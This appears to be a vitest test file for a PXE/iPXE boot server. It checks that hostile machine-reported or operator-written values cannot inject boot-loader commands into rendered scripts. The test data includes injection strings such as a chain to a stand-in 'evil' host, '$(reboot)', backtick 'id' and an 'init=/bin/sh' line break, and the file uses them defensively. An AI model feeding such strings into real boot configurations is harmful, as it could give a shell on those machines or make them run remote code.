// Hostile values against the one script-value rule, and through every renderer that interpolates them.
import { describe, expect, it } from 'vitest';
import type { Assignment } from '../../src/boot/boot-target.js';
import { renderIpxeScript } from '../../src/boot/ipxe-script.js';
import type { Profile } from '../../src/boot/profile.js';
import { renderPxelinuxConfig, type PxelinuxContext } from '../../src/boot/pxelinux-config.js';
import type { MachineContext } from '../../src/boot/render-context.js';
import { machineWord, oneLine } from '../../src/boot/script-value.js';
import type { Mac } from '../../src/protocol/mac.js';

/** Each would change what a boot loader runs if it landed raw. */
const hostile = [
  'node1 || shell',
  'node1 && chain http://evil/x',
  '${net0/ip}',
  'x${hostname}y',
  '#comment',
  ':label',
  'a b',
  'node1\nshell',
  'node1\r\nAPPEND init=/bin/sh',
  'node1;reboot',
  '$(reboot)',
  '`id`',
  'a\u001b[2Jb',
  '-node',
  'node\u0000x',
  'n'.repeat(254),
  '',
];

describe('machineWord', () => {
  it.each(hostile)('refuses %j', (value) => {
    expect(machineWord(value)).toBeUndefined();
  });

  it.each(['node1', 'rack1-node07.lab.example', 'x86_64', 'i386', 'arm64', 'pcbios', 'efi', '10.77.0.100', 'fd77::64', 'ab_cd', 'n'.repeat(253)])(
    'keeps %j',
    (value) => {
      expect(machineWord(value)).toBe(value);
    },
  );
});

describe('oneLine', () => {
  it.each([
    ['a\nb', 'a b'],
    ['a\r\n\r\nb', 'a b'],
    ['a\tb\u0000c\u007fd', 'a b c d'],
    ['  quiet splash \n', 'quiet splash'],
    ['console=ttyS0 ${net0/ip}', 'console=ttyS0 ${net0/ip}'],
  ])('%j → %j', (text, expected) => {
    expect(oneLine(text)).toBe(expected);
  });
});

const kernelProfile: Profile = {
  id: 'installer',
  title: 'Installer',
  kernel: 'linux',
  initrds: ['initrd.gz'],
  cmdline: 'hostname={{hostname}} arch={{arch}} uuid={{uuid}} ip={{ip}} {{extra_args}}',
  variables: {},
};
const scriptProfile: Profile = {
  id: 'raw',
  title: 'Raw template',
  initrds: [],
  cmdline: '',
  script: '#!ipxe\necho {{hostname}} {{arch}}\nset note {{note}}\nchain http://10.77.0.1/next?h={{hostname}}\n',
  variables: { note: '' },
};
const sourceUrl = (source: string) => `http://10.77.0.1/files/${source}`;
const context: PxelinuxContext = {
  serverBase: 'http://10.77.0.1',
  sourceUrl,
  tftpPath: (source) => source,
  profiles: new Map([
    [kernelProfile.id, kernelProfile],
    [scriptProfile.id, scriptProfile],
  ]),
  menus: new Map(),
};
const mac = '52:54:00:12:34:56' as Mac;
const plain: MachineContext = { mac, ip: '10.77.0.100' };

function ipxe(machine: MachineContext, profile: string, variables?: Record<string, string>): string {
  const assignment: Assignment = { target: { kind: 'profile', profile }, ...(variables && { variables }) };
  const result = renderIpxeScript(assignment, { kind: 'local' }, machine, context);
  if (!result.ok) throw new Error(result.message);
  return result.text;
}

function pxelinux(machine: MachineContext, variables?: Record<string, string>): string {
  const assignment: Assignment = { target: { kind: 'profile', profile: kernelProfile.id }, pxelinux: 'direct', ...(variables && { variables }) };
  const result = renderPxelinuxConfig(assignment, { kind: 'local' }, machine, context);
  if (!result.ok) throw new Error(result.message);
  return result.text;
}

describe('values the machine sent, in every renderer', () => {
  for (const field of ['hostname', 'arch', 'platform', 'uuid', 'ip'] as const) {
    it.each(hostile)(`${field} = %j renders as if the machine had not sent it`, (value) => {
      const sent: MachineContext = { ...plain, [field]: value };
      const absent: MachineContext = field === 'ip' ? { mac } : plain;
      expect(ipxe(sent, kernelProfile.id)).toBe(ipxe(absent, kernelProfile.id));
      expect(ipxe(sent, scriptProfile.id)).toBe(ipxe(absent, scriptProfile.id));
      expect(pxelinux(sent)).toBe(pxelinux(absent));
    });
  }

  it('a safe machine word still lands where the template asks for it', () => {
    const text = ipxe({ ...plain, hostname: 'rack1-node07', arch: 'x86_64' }, kernelProfile.id);
    expect(text).toContain('hostname=rack1-node07 arch=x86_64 ');
    expect(pxelinux({ ...plain, hostname: 'rack1-node07' })).toContain('APPEND initrd=initrd.gz hostname=rack1-node07 ');
  });
});

describe('values the operator wrote', () => {
  const lineCount = (text: string) => text.split('\n').length;

  it.each(['quiet\nshell', 'a\r\nAPPEND init=/bin/sh', 'x\u001b[31my'])('a variable %j stays on its line in raw templates and kernel lines', (value) => {
    const variables = { note: value, extra_args: value, hostname: value };
    const raw = ipxe(plain, scriptProfile.id, variables);
    expect(lineCount(raw)).toBe(lineCount(ipxe(plain, scriptProfile.id)));
    expect(raw).toContain(`set note ${oneLine(value)}\n`);
    expect(lineCount(ipxe(plain, kernelProfile.id, variables))).toBe(lineCount(ipxe(plain, kernelProfile.id)));
    expect(lineCount(pxelinux(plain, variables))).toBe(lineCount(pxelinux(plain)));
  });

  it('keeps the boot loader syntax the operator wrote on purpose', () => {
    expect(ipxe(plain, kernelProfile.id, { extra_args: 'ip=${net0/ip} quiet' })).toContain(' ip=${net0/ip} quiet || goto failed');
  });

  it('PXELINUX KERNEL and initrd paths stay on one line', () => {
    const broken: Profile = { ...kernelProfile, id: 'broken', kernel: 'linux\nDEFAULT evil', initrds: ['a.gz\nLABEL evil'] };
    const result = renderPxelinuxConfig(
      { target: { kind: 'profile', profile: 'broken' }, pxelinux: 'direct' },
      { kind: 'local' },
      plain,
      { ...context, profiles: new Map([['broken', broken]]) },
    );
    expect(result.ok && result.text).toContain('  KERNEL linux DEFAULT evil\n');
    expect(result.ok && result.text.split('\n').filter((line) => /^(DEFAULT|LABEL) /.test(line))).toEqual(['DEFAULT pxedeck', 'LABEL pxedeck']);
  });
});
